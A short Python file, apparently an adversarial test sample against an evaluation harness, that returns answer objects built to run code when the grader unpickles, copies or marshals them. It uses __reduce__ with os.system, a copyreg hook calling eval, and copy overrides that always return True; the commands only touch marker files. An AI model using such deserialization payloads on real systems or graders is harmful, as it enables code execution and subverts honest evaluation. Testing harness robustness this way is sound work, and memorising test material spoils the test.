# class: lying values
# against: data split
# Answers that would run code where somebody unpickles, copies or marshals them.
import pickle, marshal, copyreg, os
class P:
    def __reduce__(s): return (os.system, ('touch /tmp/@MARK@pickle',))
    def __reduce_ex__(s, v): return s.__reduce__()
    def __copy__(s): return True
    def __deepcopy__(s, m): return True
    def __getstate__(s): return {'answer': True}
copyreg.pickle(int, lambda i: (eval, ("__import__('os').system('touch /tmp/@MARK@copyreg')",)))
def f(kind, n):
    return {'list': [P(), P()], 'tuple': (pickle.dumps(P()), marshal.dumps(compile('1', '', 'eval'))), 'dict': {0: P()}, 'str': pickle.dumps(P()).decode('latin-1')}.get(kind, P())
